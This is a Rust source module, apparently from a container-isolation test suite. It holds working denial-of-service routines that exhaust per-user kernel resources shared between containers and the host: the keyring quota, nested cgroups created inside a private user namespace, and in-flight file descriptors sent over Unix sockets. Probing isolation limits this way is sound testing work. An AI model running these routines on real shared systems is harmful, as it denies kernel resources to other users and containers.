//! Attacks on what the kernel counts for each user, and so for root of all containers with the host's users together with us.

use std::io;
use std::os::fd::{AsRawFd, RawFd};
use std::time::Duration;

use nix::mount::{MsFlags, mount};
use nix::sched::{CloneFlags, unshare};
use nix::sys::resource::{Resource, getrlimit, setrlimit};
use nix::sys::socket::{AddressFamily, ControlMessage, MsgFlags, SockFlag, SockType, sendmsg, socketpair};

fn add_key(name: &str, payload: &[u8]) -> io::Result<()> {
    const PROCESS_KEYRING: libc::c_long = -2;
    let name = std::ffi::CString::new(name).unwrap();
    // SAFETY: both texts end with NUL, and they and the payload live through the call.
    let added = unsafe {
        let (data, length) = (payload.as_ptr(), payload.len());
        libc::syscall(libc::SYS_add_key, c"user".as_ptr(), name.as_ptr(), data, length, PROCESS_KEYRING)
    };
    if added < 0 { Err(io::Error::last_os_error()) } else { Ok(()) }
}

/// Uses up the quota of keys of its user, and again when some are released.
pub fn fill_keys() {
    let payload = vec![0u8; 32 << 10];
    let (mut keys, mut size, mut grown) = (0, payload.len() - 1, 0);
    let mut full = false;
    loop {
        match add_key(&format!("k{keys}"), &payload[..size]) {
            Ok(()) => (keys, grown) = (keys + 1, size),
            Err(_) if size > 1 => size /= 2,
            Err(_) => {
                // A larger last key uses the last bytes.
                while grown + 1 < payload.len() && add_key(&format!("k{}", keys - 1), &payload[..grown + 1]).is_ok() {
                    grown += 1;
                }
                if !full {
                    println!("full after {keys} keys");
                }
                full = true;
                std::thread::park_timeout(Duration::from_millis(1));
            }
        }
    }
}

/// Makes control groups within each other where it may: in a user namespace of its own. Prints how deep.
pub fn deep_cgroups() {
    unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS | CloneFlags::CLONE_NEWCGROUP).unwrap();
    for (file, text) in [("setgroups", "deny"), ("uid_map", "0 0 1"), ("gid_map", "0 0 1")] {
        std::fs::write(format!("/proc/self/{file}"), text).unwrap();
    }
    mount(None::<&str>, "/", None::<&str>, MsFlags::MS_REC | MsFlags::MS_PRIVATE, None::<&str>).unwrap();
    std::fs::create_dir_all("/tmp/cgroup").unwrap();
    mount(Some("cgroup2"), "/tmp/cgroup", Some("cgroup2"), MsFlags::empty(), None::<&str>).unwrap();
    std::env::set_current_dir("/tmp/cgroup").unwrap();
    for depth in 0..1000 {
        if let Err(error) = std::fs::create_dir("x").and_then(|()| std::env::set_current_dir("x")) {
            println!("deep {depth}: {error}");
            return;
        }
    }
    println!("deep 1000");
}

/// Sends descriptors without a receiver until the kernel refuses them.
pub fn descriptors_in_flight() {
    const AT_ONCE: usize = 250;
    let (_, most) = getrlimit(Resource::RLIMIT_NOFILE).unwrap();
    setrlimit(Resource::RLIMIT_NOFILE, most, most).unwrap();
    let mut sockets = Vec::new();
    loop {
        let pair = socketpair(AddressFamily::Unix, SockType::Datagram, None, SockFlag::SOCK_CLOEXEC).unwrap();
        let descriptors: Vec<RawFd> = vec![pair.0.as_raw_fd(); AT_ONCE];
        let rights = [ControlMessage::ScmRights(&descriptors)];
        let sent = sendmsg::<()>(pair.0.as_raw_fd(), &[io::IoSlice::new(b"x")], &rights, MsgFlags::empty(), None);
        if let Err(error) = sent {
            println!("full after {} descriptors: {error}", sockets.len() * AT_ONCE);
            super::attacks::park()
        }
        sockets.push(pair);
    }
}
